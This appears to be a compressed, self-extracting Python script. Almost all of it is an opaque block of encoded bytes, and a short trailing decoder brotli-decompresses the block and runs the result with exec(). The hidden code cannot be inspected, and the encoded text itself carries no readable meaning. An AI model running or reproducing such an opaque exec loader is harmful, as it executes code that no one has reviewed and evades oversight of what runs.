/XnnnK|rXadcˤp$a4`yYފ:2yu<uO1T?ͰcUW:$c:f{N4QAŖ>͒؈Vih-_g?s(R*;aDtK<4Ðx(&K<oMc+4ǫOU1~ L,OәגH_Gs3FҔ/@/gˋ ρΏu7\y66%'7ryo@chكD-Yȶ;ۖkܫŲGt'K)Yɹp4PӖq:i}eǋǕfn}1]ne\.{ӝ\ Iuܽwa@$|ʂZkbw;lszJEsF]S
 9!ggtv rʄ$ZV5[ĹCTFS'%:_Wߓ1ؙJ8CƧ[P14`}r@s?j9[S"fѰ~$_C+q;H49<Ou@m0Esph0CBXK7$L2X 5DiɊ=ԽIXѱ͛u+J$?{1ĖTjSr]MCÞVyiwG˾v>o[ЛoV8bV@
<q>۹.?j7!ҡEN7^(*a/$ʱ /s&O)0>-·u@%tڞ2;yh/̙LGW
Zyzg?ґjS<g}3 D1LHfMz5Ɏ'&F!_0t^~&{x1zqv!1OBU~`74,=xÝ>0Eʣfsޗm\	F=VHgT;a2v<ʔoNFBy$kC+^5(_tÿ=~dGu<OKgJOdU ~gd"͝,Sj}C2\psq"|%ΰƖlhZ3{N\Җs,\N̪΂G1rvZe֯8u%e;ҖܨDyq}aXsyՇn!?{ENcqDhEKORt6bz^ΏɾQƬ'ũNcΪ77BD53(;8'Rh0=;z7FےV@.C*`	T$[pC1) ;K5>i^?Ԣc_(ȼxޚ_M>E~ێ1o^!=sooE}lP~AغƍDW5a_6ǸI2}Kn46ܝz&~Iw$Z^8j[?+!# ?}͝r(u-R]UB5Xa
EgD,;8?kjX.ĘLO+C,C*/)\vũ)63Y{A')&@Y[({R=W?L/"T{e(61r6<O}()RTgX{(pj޴$-͗s
Qr*W}7d]Eta'xm7 FP;=wd[mj=;yi.ԟK
|g[zT!/̟ʜ{"zx)T1ήT'8]G!|WÍTy9bh1EjoWQӵ\tdfA*Su>1I]C
4"gj-
{?zjq`*ɢ~ӥTߊYLޅ֝׫f3]4XmAXh+ȩZ6ozRLqIju]El#lgu`&!|ɚlb8g+ɏM֞3WiӤb.W{׫rN{ZXtlp/h;@,LFDi+2a!-8d-nưȉM9=ohIòJNܠ_2nF+|8݁YN$Ngqw±f^JbB"j^PGd9;2tv4T²ڼuÜ>1:
,;7Crܦ۷>GCB?mRXB&]qT<QRE!7GmFxk6n_A	5zde-	<mqݤ4vu{gk0ζȚ~h- O	އ+%/km{׬?"'e*bOH.1[Y/]'[$J+
*Ly$#s\h?_K@\Lȷ~B;݈`Ԝ?V],&98m1ry/^X~^|͢_mZ݃W	6]~4q}n)Fϔ%6ڔp(ӓ=P~YJvf"2KH#[˶o`a-r[Rcd<ϱ­?=Wv{!
JŅ3JyH͇f(ep!wu^Ö]a*n.`t+o{6͔tx3ѳFO_)p%Tg4AKLcs{&d{ȯ$cȱ1SFʚϑ"6=5x0Xрh	'Im]7%Ӛ;\?T32zpjF^G#eP(xcaà՝:wemSLl0IȈq>qi©*JyiesVg({Km.bpj@H<3t )~eʂ#WL<n9X^\Zϖ
jƵ8Ӳ);۽ϣ''ݟAG[r_WL$ NЙYrZsSɆתEşbkUoGi/XShə{Yv8ѽf_Il-?$r3*!+JU^YŃwGCYRP
іY_øgz7x4I܁ϼ6r$ƅYIM8bD]\^C#ċ\*jOG|-mSש<<0@ȕVr>tYa6:ܕB%')jKˎrO$;_\yun>fGIB<
wϙMk	bSטF>wvM\k>h2HݳV1U܆i7:=9FvyGJ­7>BUkÃ8]NnݛLr]iIpڅ_)ěݖޙns{!_x_%փ(@ݔ"Sf,h@hm`
x]v4*UHD  ,3H_;:Ƙ׃ǦH׵@˒&|Ã<oC̀ޝj&FP:'axjx̍U5#AFSOBE9Q߼D)xdցyqk~J91#aOӃ^Pyq.m"$ :,v+{5BHn<J0+fгn^i1WutƏ@r5ŉ,۔&"LˑKdERg+U}(sݒvthZ.RG&c0p
tߊ9|:Iъ҈fݞ<2aLV#`9:J?%PoAYb6\c{lѸUҬtCŵ@*vXGIKƋ:ު03\<Nm˿&G>Qkݚ5T*`|Xcw3F?"nqS؛p)Aun*BR)-[zYa&c?OWz46nKp8,3o0Ur $T6pW\9/-[:+NτK;>߄D&8v	ig]I*sW]8kˆz}//}GܠPԋBӜ^Jإp8AjR'[C/)Zg[ M҅ސ4'?ԕЌǑjK&|<`֣vXZҍ?B`$XZd=C
cg<1_C6v
U4ͲMdsAQ9Pz,XsPʕv7=[}0R9obӓOPe]!ɝ8l&qfr`QY|VUz%-TЭ{;+$cnU**W)<âKD"4>q.hk/'øNVǁdy@~,5Ɩ-/v+ģɎw7#;/`QV2%'iҌ+V3]7TyՔnO43@2
WCaQIhEzl9HUV0oREǫȠ0TѯV42)OFfݻ	Â@װETpAbaPPd["B'C^+1
 ܉(?;5,*#X5"՛Ha٨zdϣ_vq=80ṉ`CT<U`->0͏_@daٜfی^ЀW/*H	Z_=O
I)t`GwGڨN!2^e"ޱ.|OM@Rߣ"d°Ewq,
4)Mq-|yCSa0l9m~֍HS|G2M7SMr%-")%/.AQҹPʔ;S~R4t-JϏBÝ֊b'|wLג@=ܭNhr}9.v5 #ΑϿw[v.*֛Ը\(O?_q\dN]
^RmTY|ȷaHu X7sUw8v83Ĝd>{ca//dGNqLTdNϘ]eB.XU}04rѤ
A"a5+rЯ}Pڣ7H#jqjܲ^L(%\g\NUacRvbZ&e¿ƠSiswX̀S9Fm`ܧ-'Yk/ԣ5)j\ڈc:J
.:-Kv	PEv")n̯_ALZ^xDxy(poׯrTڝtnʢo<ʫrŷҰ[ߛu
ENW1P݄qa(r0s Ӯu)}yB
ٍMx%Jj
ggNPpf|W
m-ѕmǡ<K^]:2R-i{D#Ⱥ*3vg
[cOtʀ(9\;'lf uKlm\c}ܻpǰ{/)Zhm٧ yȷ\E_oN-R	rޕk:|'yҏJCrhإޕ\ߩбAE:ğG)td'J}fvQ
O[+GtNfC^*hUhݠ';Mfi=^|H\a_q&yVjGFD0Ï*lƾyFKǡu!ɝXNNodQNlxo+Y/_.)BEK$.i(%b7O/PzgV^hmCTF6!lR5U262TyS8<6 ޜ*3yYtжWV|FL-w1֭c3}MbZ{#zפFXEãQI[	U-͑АʾJ
2GCr?B/Uie3aנeۅ-u8puM	t`ߏ|Nя7;N1<_aX<>@O5@/2.cwdݻ&4D/\~;Ï#JPMSj~Jڪ	jT8ge>Q[ Fӎ%-u`E֥$EN߹rו׻ɀto̡Mp_0t{i#=j~<36FԊlDO߾|skIZX|l;5H-1c)|Z|tg{z_pf23W/5m!I.Oo0.1o	Υ)t9V׎)s߲&!P߉YN4t)7ϴ".C|,	8˴u(rN8[ݚjEL-nOFXϘj_\V/տ,dy+`KAmר_Ͼrax`(L)Z *ڢOLx4DGE-0~@|8"0{Ѩz2EWgvZwӂF_bR:'h]ejv^:6|u^t.m:G52E
C߁˪/Y7!|F~(7ܳ[xj3ŷ,69dlr(W[
y:ġo#mUu\oO.TaüXrUvڷ|re\QVrƖnT-ZuKt:lh,0
Ԓjh7׈fZT B!lG|NFO5!x܉۳-&/$mGKfW'ye|x`L'F51c(E	1Ww7L2ubמ`(1|K>Ne߼b<c`WlǴ<2zF-1|BGH0ӎr$AvYh]=QAB$j:ȕb؝R(TܪȘjswgګ.;tIƖhj,&
rz
"{q(iGMtGKvZb&+B[r-e*f*hsILMj*KOCxQٝs&"ƚCJĠɩ6ad%ՏMPM:K"ɭM.5e_41vuޥXk`L1Ƈ)l|`Ka5"BO)|~7<Sd,X0!#Fuā;JRI9kIـ38%P~mĖ<zucdb^q
W*I00x
Um?)̞N]+U&-jֱŦiww]{<?P|@fO9yJ[82F7uuQ*(AGԴ`߄@S߶Ke|Hlu.`Yn1ʉwâ˶"#3`)/6d&YBП9vu1Ze)mdGD7k_Q8&;5ڵ>!yP؎_sICOۯ͕|qL/ r[tmEO/v\Wb`8$A3Rq;!	jy/PkQU&Շ8ӻONL0CCKm(F]$<"[}3aj+΂AJQ~VJQ}<زݎinh~Kxߚ9/pFr"#z:aXkw{,7_wnp[}[o^M=tYEĄ:O{ڟ	ŵJaFZr?'ūۖ91ePgm+z$Au0^";fy(=OQsg#ܱE2Ѡ]#	:{[<	
$m,39x9Ĝ~/mFrcxb/>@:Y85ш۽T\S3T/(+r8:3k)OVYhܜvg\&dNhf$(;[y.6
ǳ;"g.UtOeJ4y"tGʼ:I]̋by3¤Zq4M9YIe"۷^9]:\VRPucmΧ40W|T=]u̫7=qږ'iJtPm!ڈRcsyBUȜ8q>oi]ibLDb"(MFh)j:Ŝsy\84y44=GMJ[q'<UurF@ÀY
ar
BlBh$L	 __H]>x!"_HG4ظ#\e:$2}˶\@od%ΚgvLMM̾LX6`k=JsPRi3TV#d0JT~
Ǽ)!r/I~;NXCĞ]	fI\\)DU)(TͶUi:pΗI\Ī)wWkdv2+xu):f[l!	}A4I2TT׏ճٯʟSn4K*I-kM_	j3me/rg֕jxccp![4TJ,Zj&|m%r΅Mwjlm'g Խ1'90Pn.˯ay{@ݙys5	àO[]TIϢYٿ89<fAS,RTסI{ksľUG9ہT!j=3P&v׌Ӵ;;|ܳZ\!+-_mҘYO7#Kp؁=ɑ)u0/cɳηrDkqGZ-&Xۚ<.HjJ](fՖ,5F7`h.VPʭnT;k	It?_ƽy)3ʐ5/n֏ůY1*:-wˀ҃Ud+oj9N2!'lo?EY*i̗HS+ܕ0`gZ7C:%qmEKA`!=1*2$Gn4]|yR8+%NU{7U&olwI̙{B6j;S.fԯE8*Z̞јIYOs&`2O|Hz]֔QDͦ
|m~{n_YLIf\cڙFD^Gv%ݼ]
 ՝U-_D>p%v	ڜп	ֽԂf":vi2Y"VQgV@U-40Pas\5F:
`O`<\Xt2yrL__:Xx>vEc
ԃlT>:oȲAcʚ]ҝFS؁e&=PQK_
ߩۓI>ʛ4^ó_ԛ2|+
%\4nm$ŔxsP	,#jLl'+Gbtݖtg]HYD5p1΃t'uGEXf/hźEc+{eئZؐ|ګGKTyYZǁA
qYw|ߺP[\!
s%M&!ҕ)`ʢbNn3Y+͙Jm؊*Cr=Bu*atJȋ0_wSI25ҘvxC:-.RsĞ!v#q$]H:Af[	|M40{oh2rUll׆NDDtgߺk33-NwўUS"Ťtʁq	:;q@\\<ҵzz~]z&"hNA,/ĔfI^%bF¥AIcUȬ7؏ZNW'q/n<'ޚS
,7>ܬY669h$͍PnSѭ\)Np6qskĦqc1{r\krbQËzexp -m`~ƗWAn֫TzџX0k "sn5ۉ"*ʦzA\+`2&!àY3DI??bϊ?[uAצe2Ǣ&.rj=RkS,XD'S03ď=k1'ߓ#H|Un8ZJƺ'5NhUe=J)Op	h.*~w	bV2V-T\\G+ ?+*rJx
clD6̲&^*?4TV-WuX	
kM~ƛ]_1~?ڬ\
H_d.\=OBw]	
"ϟ\Bzz\K	Ԏ9qeG,IGRgE	Z_nFJiЈ/s6ɛt>UD<#>zr@b	q~o^ҙFB6_(9ٍULU=Y	Nن S0wi YSW	dLk˰HMٍ;eįXH B{sAJ#iSiDT_#t*6)*T}wc/_WJG5?t_@Θ}w#hb1Jt(aи)X3+ΈM6b{Ԏ=1}֪WUhot.!5`67|vķMTrFCsd!r53K jJ}"j6&px%
|/b1a!ybCaԣhpܝ,ƣ(_ʵ˻I8ZBjkBy3*|+eWt[ߴV}F/7dҦ/=̱+ǴJ4u[c[6VMw˿P*H'ߋ	b]	)*,\]	r+=*ZL˃mt[gW;1l;ۜ)ym1&csjq[zy.W>V6ʉm
KN?p9&RtR^uu9E2`&c"PryM}W4߀Zƒ#lvCJ_Wv4T>=,ȷ:Ż?ņ,?wNϛzhΣ*PqQH{@n~$a,`~}CM]OɈYzTpҕj=odѣɭk}Fx9=*ؓa#Rr|X-0ΆNTb$שp{!ըCj=/ R`qښGѤۿ#H%Z_@X*z˂<QXr%qCzaͤϙoVme\#BJܢr8(!hmtuBKv^Ff$+[{nIy¿UivJPjZR)crEM*w'=cۃIoLG/5|bL[^Xq*%`w1>L>OE\I|9^7fՕ	$-E~>]yvXA"$<dM+RE>9ʯ(Z|0'ΝF(ұǫmKҰʹ8hRqe)cjyĜ{xݹ8J0/{ϢKëֶq/JiQ,5Ѝ|?e)D˸H?̩=#ɏw4c7kێޚ]%w4.6OIlݘ]M}j8\Ǿ_)Q*'$Czamk\5a\A,Kئ֫R0O܏kˆ- <ŔhPR	M|kS:h]EbiWc_@hŽGFîS|(ސ#rTG9-εb]*j?:md=Oz|ktG0Oy#߿CYԓ*4H,Yn. 7D*lG*OtlL#-wɘ2|ެ^лoރJ cPNr?|g&ܘչvtӏzǕ
1-Y$P|J42xLp:â)Ww3F],O]ԬCuX,wuC_^һ^{zT}w{4b9u84x{z5mª!|VdI?B[o)G/}bn?	لCR4?Wʀ_ j@%kbt(8m[a}8aX1T!h+bnɱI]Ψ±>x-z_ngHJbwOѷp~M<ĭ2~nܻ@ϵs-j'XU΍LVAd+"qI)њPD,P#2|ʶX ֡=^j	°3Fnԕp%{	^J6$JmOnW{p!݂4f`
/j\۞E٦ZE̫ ! (߂uptC,P<Sa`yV	i\i;NXBd&aXPeɮ;hϽ$
SIU%P^@>?Ϧ.Lp :NÏHISwM\*IϏQʏت/ىI%~(&s;taW#˻	<DHiRUD0ޣ%gi1Uќ,qrޠ4WE}ϊ@)~g`mwv~FcB°dgRֶrK_-q;)sA@?&[VX0y0|Q0QdHHBr֟ɬM?.w%MFp4r1KsT`[Sz ?޲Skmdʭ	9Ɇs!iiڗڢ=SE]Gix	<2C@3WSAuS5}WxWɤ<Ee[ɋ*cnqX/ł^̻~{Qn3M/i!@E!Z'cT)4;'ˆԽ,9x`kB&@6l^e#uԪLU@1.Ր'|!>Y oV$q4(3ȩiݎNSQ"W֟QS>P<Jދ[۳>Ӑ|1+ J+%rKDk',@yPy&e5d5FRi~?8y&]üI*c)K|Gбԫʒƿ,
U"ΗY9G7ծW52OGGxhְMfJwުe5L[IPXmŅ{vSw&vsBƹenDݖl
1b%^չ0QڬʗMQ}W¼Ρd1u·>vY kx{lf_Yn/Giڀg{u,T6:"gaÙL׉V|,<.-A{C6iS0&da&O:¿<#[LԺX%QɅ@gd}ajN|W>
-ޚT|k<n!Z*s!6_*@g*I1-T5Tňi+Qp9mވx1	0^~8P3	]ig2%<q*`|ij|߻VM[vqy-gr(>H#֧ʫ@5D._ɡ/Ż&ĸFf-5~ܰm7`Bڻr#ۡչl͞P{ĂN]РU1ư}w7,u2$>'6rh7h݄߫5xcɤqЖkQd͗c-kFg@4
I:;dszfƏ,jZVhԂm }Gd!tMԻ~YBɴ0r(ԭmόuxmrđ@^zӬ4(O'K*n3
xz~ٌDB.~N\oJ*ի,AST{	/?6ȵ4>e!>~Ňj*4m=VI!2Hf[nxUҦA!IOxMx*~5̿Ye =a40Ha+>ȬW:< D%N2aUF!)\/&hpu8fVDDEø+9U3ۆjA=pѷF6
Rnjmo3΂Vw.2ӭ JұܩܡZ~?4kی{u]VȻx\Q!,+s!RZ!tq1(g\#`}I^6='XElPif"oj6[n7TT9)pWu}s,i0܆X{|Ll*!e{bZ:|dh5TT؟L{ӽڤk%2nFĄ}#љ{-/>۟qC92ОOZOϞ}|ӯKVYepC#ӁhؔaF\ʵOřÞbȑ0=aS?Aum|VOYʒ9~rXbw-g|&2W.ʠŴ"MUNdIwkm5RMIɝƒTǕ"bxBPo[9^gqgF'd#Oj
ګyHThE868EFsZ^L̿+H%,Vbz3ĎlȺR8ef:hAKx]1͝4q|sDG:*I^VZ4ev°GpAȳɱ[A"wr!l_0
ɦ1,~/i}Ej14)D*˷2KFҾF&.:*QTo5͊l]VGQ|׷E
 (*+s+YGB&tT~X3<jښ"קB>vݪ**xTSFO+ۑ#bUK.~!hY~&߫D{ߓaMviy\oJ1w߼:3]{%E9ޙOg42V.1}
Hq%O65j[m+>ُM\gț9٫ʼ]XHCFûYt?D,mcă~'ra~E@=n{dW}<)H۾ǍrʿXںYEXϑ$H rGŝ#3OKD+l|آQqD
sØǬ7xգbMD8.ƞlT112_1pB'[ݡ3`e_L_)=aR\h>վQ0ѻO]	m:w+/D4JC}Nl#y[XwA$B8ЎIl
i[4>ˀXd?~G>ҩ$PB[p_eiCtÓX~ʐ!,[̱%<^oĻVb!ZϞb<M'4!ʙ/Y.p^BۺSy0v9X=$g|z "%g[pQ"][7ڳ,sz;hzv7Nogfwqmi*JY
LmƑ?O8ͷtGf݆i*O@_[jF.5§vѾ*7"Ql#[Yɞsrb*cΎà	:>F "֒#++b<KϜ<J[-QT$'RUten1͕qR]ЖS?ږCH/^oARQBlk?ǲĝ%Z=o->X)Ҏ)BDǋ5N#ҿsVOqT.$g>E>yLQԛQH}9${#Sf"ԗ{T!bߙۜ\U5UpIĳRX:_ ::2HǋBY"(#WHj+Ce3?ǉ`݊ҞiUPUڟLVk81/Ɇׯιa׳}.EЂ4a>ځZhԮLXJ݃q9ju|9">sqXv(MrzCWb-aéʏM"&'jh]9ܦ&Ϟ~dnҠ{JekbhǞcd2{S^,re+n/C)B˘[ì]Ə$
~`&B]F=t[K8
;4q.\tn@AhlgzȵAKKѝ;ڹ3"õjA~t!7p8u,tJt-A|	:|(&ݯ}yY߸DTqב\6̳qDLW6QRy}4wٵPHǰ\Vu>.TEɝωJF K'PYʜ14CLNeR'J~h|MlZnØ1wUފ=YRqSp0ߤ`vL83}ݚZr E|d[L?AcOՏ{mwi;!q$պm4ij̶~ޓrsSL)w'b2k׀RP >Zb@*Fq# *aX,LR3gj=Ke6u/6b@>#C8<7v'J-3V;wN
p~B04L&/6ʝA.%LJæۯSƹ3ֳ_g-;GMnv{=@WB}@hIٕΝǡCِK9%pljv;ej1kNB
:wDW6iZ=|\ƅV	-6{@Ďox,>p^خRgg<k.E/<H;u53gm6,Ȣ\1,1cK.$LJ>Mx%KB&V_RZ܋*<:>_Eƨzԩjr+ٝFn&BޫЁ9ngA(ޥ6O=!u̮v!\cLj58r?'b0c2ɭ 3>zEV \O'6>3l"s~|7ۮOt29A4i]:?[@Pđĉց`fEHH@0Zc>Ơ</L\F!h& ݈ZQԘ3ηȀZW5}[HkI1-.XB
̂tN}	Ί.R<<TǒAْWJt%rdG8iXKի=Li/":
WhHCe3Dȿ?(q642-ώ#>+9]e?1fJ>]k*J#˦jÎs2)L=l2E\uI%ڕ-<N3"û٢4Õ'Pţ͟֖Rs|]&BVͰҚ	:U]2,vՁkCE%'P4n܊1MO<AIf[:y1ͫY^6Fg*]7ejHZQ/hn]TE8k%"reeGi(xM'2*QkT{8ª۴R\7 :p|3|ilɅv} 57!kd|eHBȰ%QHۈ0C"b]y?K^x}E3{o_z/6 ڎLxegHeBȤRR}K&zOJL(7bRF00:]_P+*K!x]߈=/đˎ&УV/r4p-"KٺhX#^nGx|֔6$3Ȥ҉:Pa_]=!<ؓ2y0vn]Ns8TzׅOٽ%4Ǝ 5L1M4mʅIVF$@0?2K EF KDŷe&txB´#|b̵qJPK<;w;ʷ`oq>$<=wEIjeDH"wD1XE'X[3_ٿۤnl9"qgiJC0Nʿ
5)'%)gb]-W7-fY6#ÕPۚ:D(v^'ȷ\Q+y5P303m
tH+/Rz+DFkI/}R0Ʈ10
*ceK4F^ɞb-kPj3YD
މG-ky8ה"O*t
ʱlO	KҖ
xî;#gkzgV-yfbiAf62d'];D??1$u?ãY~1C$bndjHƂUV|iNKzzZتĿe>tۈ:hZ1F&Y;z6Y"%#RGDS_W[9"e=\ʽƶǦ>^]v+(To̰<Pã4qT3מ~ ϔ0@n?q9>,bl*jBy@&yxhgE	{J{jopH1\6}.RڧI!z;I +٢8*%Mmөy˕=BseP0%UPpXx}#vٕƍh*kl	<Fߑ=<eid]&*ל~e*@>8GΊ@WCΗU<r%
˫\ɀ/Bs3V|
z;L2!\v$uh'Eo*@ޛ,Wc)C:/?Jk&/>ui%'ʑYn,b0;F6 #>F9$xe}9w'n͟pȆ4=l͜MspPPT3VLnѬKվA9_mdB՘;2"Q{=Փrp\AeXMd/r5.FLLNlîdʲg#w dg~¬ܮb:8וAΚa|xw=0''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(26295)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
